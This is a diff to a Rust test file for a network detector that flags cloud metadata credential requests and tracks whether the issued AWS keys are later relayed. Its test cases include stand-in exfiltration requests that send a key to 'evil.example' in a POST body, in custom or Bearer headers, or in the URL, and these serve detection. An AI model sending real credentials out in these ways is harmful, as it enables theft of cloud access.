@@ -2,7 +2,7 @@
 
 use super::*;
 use crate::conn::Proto;
-use crate::detect::CandidateKind;
+use crate::detect::{CandidateKind, Seen, Spot};
 use crate::proto::http::{Body, Head, Message, Start, Version as HttpVersion};
 
 /// A message from its text; lines may end in `\n` alone.
@@ -29,7 +29,7 @@ fn message(text: &str) -> Message {
         last: Timestamp::new(1_795_490_000, 0),
         first_index: 0,
         head: Head { raw, start, version: Some(HttpVersion { major: 1, minor: 1 }), fields, complete: true },
-        body: Body { len: body.len() as u64, captured: body.as_bytes().to_vec(), whole: true },
+        body: Body { len: body.len() as u64, captured: body.as_bytes().to_vec(), whole: true, later: None },
         bytes: text.len() as u64,
         gap: false,
         cut: false,
@@ -109,7 +109,6 @@ fn an_aws_credential_is_proved_and_described() {
     assert_eq!(credential.scope.as_deref(), Some("demo"));
     assert_eq!(credential.expires.as_deref(), Some("2026-11-24T09:20:57Z"));
     assert_eq!(credential.fingerprint.as_ref().map(String::len), Some(32));
-    assert!(credential.secrets.contains(&tokens::token_hash(KEY.as_bytes())));
     assert_eq!(got.signals.slugs(), ["issued", "tool-user-agent", "v1"]);
     let shown = format!("{:?}", imds(ROLE, &ok(&aws_keys()), AWS));
     assert!(!shown.contains("wJalr") && !shown.contains("IQoJ"));
@@ -229,7 +228,6 @@ fn every_provider_is_told_and_proved() {
         assert_eq!((got.provider, got.path_id), (provider, Some(id)), "{request}");
         let credential = got.credential.clone().unwrap();
         assert!(credential.issued, "{request}");
-        assert!(!credential.secrets.is_empty() || id == "cs-password", "{request}");
         assert!(credential.fingerprint.is_some(), "{request}");
     }
 }
@@ -419,37 +417,37 @@ fn signals_of_a_driven_server() {
 
 #[test]
 fn relayed_tokens_are_seen_outside_signing_headers() {
-    let mut known = Vec::new();
-    tokens::secret_hashes(KEY.as_bytes(), &mut known);
+    let issued = detector().http(&exchange(ROLE, &ok(&aws_keys()), AWS), false).issued;
+    let key = Secret::new(KEY.as_bytes(), Part::Key).unwrap();
+    assert!(issued.contains(&key), "what is issued is what is looked for");
+    let is_key = |seen: &&Seen| key.anchors.iter().any(|anchor| anchor & !3 == seen.anchor());
+    let carries = |seen: &[Seen]| seen.iter().filter(is_key).map(|seen| seen.spot()).min();
     let meets = |request: &str, response: &str, server: &str| {
         let exchange = exchange(request, response, server);
         let mut verdict = detector().http(&exchange, false);
-        assert!(verdict.tokens.is_empty(), "nobody has looked yet");
+        assert!(verdict.carried.is_empty(), "nobody has looked yet");
         verdict.search(&exchange, &Catalogue::builtin().unwrap());
-        assert_eq!(detector().http(&exchange, true).tokens, verdict.tokens);
-        let hits: Vec<bool> = verdict.tokens.iter().filter(|(hash, _)| known.contains(hash)).map(|(_, r)| *r).collect();
-        (hits.contains(&true), hits.contains(&false))
+        assert_eq!(detector().http(&exchange, true).carried, verdict.carried);
+        (carries(&verdict.carried.request), carries(&verdict.carried.response))
     };
     let server = "93.184.216.34:80";
-    assert_eq!(meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server), (false, true));
-    assert_eq!(meets(&format!("POST /drop HTTP/1.1\nHost: evil.example\n\nk={KEY}"), &ok(""), server), (true, false));
-    assert_eq!(meets(&format!("GET / HTTP/1.1\nHost: evil.example\nX-Data: {KEY}"), &ok(""), server), (true, false));
     assert_eq!(
-        meets(&format!("GET / HTTP/1.1\nHost: evil.example\nAuthorization: Bearer {KEY}"), &ok(""), server),
-        (true, false)
+        meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server),
+        (None, Some(Spot::Open))
     );
+    let sent = |request: &str| meets(request, &ok(""), server);
+    let open = (Some(Spot::Open), None);
+    assert_eq!(sent(&format!("POST /drop HTTP/1.1\nHost: evil.example\n\nk={KEY}")), open);
+    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: evil.example\nX-Data: {KEY}")), open);
+    let bearer = format!("GET / HTTP/1.1\nHost: evil.example\nAuthorization: Bearer {KEY}");
+    assert_eq!(sent(&bearer), (Some(Spot::Authorization), None));
     let (host, path) = KEY.split_at(KEY.find('/').unwrap());
-    assert_eq!(meets(&format!("GET {path} HTTP/1.1\nHost: {host}"), &ok(""), server), (true, false));
-    for own in ["Authorization: Bearer", "X-Amz-Security-Token:"] {
-        let request =
-            format!("GET / HTTP/1.1\nHost: storage.googleapis.com\n{own} {KEY}").replace("Bearer ", "Bearer ");
-        assert_eq!(meets(&request, &ok(""), server), (false, false), "{own}");
-    }
-    assert_eq!(
-        meets(&format!("GET /b?X-Amz-Security-Token={KEY} HTTP/1.1\nHost: s3.amazonaws.com"), &ok(""), server),
-        (false, false)
-    );
-    assert_eq!(meets(ROLE, &ok(&aws_keys()), AWS), (false, false));
+    assert_eq!(sent(&format!("GET {path} HTTP/1.1\nHost: {host}")), open);
+    let signed = format!("X-Amz-Security-Token: {KEY}\nAuthorization: AWS4-HMAC-SHA256 Credential=A, Signature=00");
+    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: b.example\n{signed}")), (Some(Spot::SignedHeader), None));
+    let query = format!("X-Amz-Security-Token={KEY}&X-Amz-Signature=00");
+    assert_eq!(sent(&format!("GET /b?{query} HTTP/1.1\nHost: s3.amazonaws.com")), (Some(Spot::Signed), None));
+    assert_eq!(meets(ROLE, &ok(&aws_keys()), AWS), (None, None));
 }
 
 #[test]
@@ -650,7 +648,7 @@ fn what_is_remembered_changes_no_verdict() {
         let mut new = detector();
         old.memory = Memory::default();
         let (got, want) = (old.http(&tx, true), new.http(&tx, true));
-        assert_eq!((got.imds, got.tokens), (want.imds, want.tokens), "{request}");
+        assert_eq!((got.imds, got.carried), (want.imds, want.carried), "{request}");
     }
     // the first, the disguised address and the name; neither queries, users, nor what looks like a secret
     assert_eq!(old.questions.len(), 3);
